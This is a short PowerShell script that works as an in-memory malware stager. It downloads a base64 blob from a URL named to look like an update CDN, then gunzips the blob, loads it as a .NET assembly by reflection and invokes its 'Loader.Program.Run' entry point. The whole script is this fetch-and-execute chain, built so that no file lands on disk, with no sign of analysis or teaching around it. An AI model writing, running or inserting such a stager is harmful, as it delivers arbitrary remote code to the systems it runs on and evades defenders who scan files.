function Invoke-Stage {
    param([string]$Blob)

    $raw = [System.Convert]::FromBase64String($Blob)
    $ms = New-Object System.IO.MemoryStream(, $raw)
    $gz = New-Object System.IO.Compression.GZipStream($ms, [System.IO.Compression.CompressionMode]::Decompress)
    $out = New-Object System.IO.MemoryStream
    $gz.CopyTo($out)
    $asm = [System.Reflection.Assembly]::Load($out.ToArray())
    $entry = $asm.GetType('Loader.Program').GetMethod('Run')
    $entry.Invoke($null, @(, [string[]]@()))
}

$b64 = (New-Object Net.WebClient).DownloadString('https://cdn-update.azureedge.net/s/pkg.b64')
Invoke-Stage -Blob $b64
